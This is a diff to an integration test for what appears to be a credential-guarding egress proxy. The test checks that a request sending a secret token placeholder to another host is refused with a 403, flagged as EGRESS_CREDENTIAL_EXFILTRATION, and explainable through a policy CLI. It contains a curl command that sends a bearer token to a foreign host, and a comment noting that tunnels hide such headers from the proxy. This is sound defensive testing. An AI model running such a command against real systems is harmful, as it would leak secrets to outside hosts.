@@ -174,14 +174,23 @@ describe.skipIf(!run)(
       expect(r.stdout.trim()).toBe('grep done');
     });
 
-    it('refuses and audits the placeholder sent to another host', async () => {
+    it('refuses and audits the placeholder sent to another host (plain HTTP: seen by the proxy)', async () => {
       seen.length = 0;
+      // (Inside a tunnel to a host nobody inspects the proxy sees no header: docs/egress.md, "Placeholders over
+      // tunnels". It is only a placeholder there.)
       const other = await curl(
-        `-i -H "Authorization: Bearer $MAVEN_MIRROR_TOKEN" https://other.test:${port}/`,
+        `-i -H "Authorization: Bearer $MAVEN_MIRROR_TOKEN" http://other.test:${port}/`,
       );
       expect(other.stdout).toMatch(/HTTP\/1\.1 403/);
       expect(other.stdout).toContain('EGRESS_CREDENTIAL_EXFILTRATION');
       expect(seen).toEqual([]);
+      const id = /decision: (dec_[0-9a-f]+)/.exec(other.stdout)?.[1];
+      expect(id).toBeDefined();
+      const explained = await waitFor(async () => {
+        const e = await daemon.cli(['policy', 'explain', '--log-entry', id!, '--json']);
+        return e.exitCode === 0 ? e : undefined;
+      });
+      expect(explained.stdout).toContain('EGRESS_CREDENTIAL_EXFILTRATION');
     });
 
     it('stops giving it when the org no longer allows the secret: no placeholder, no value upstream, explainable', async () => {
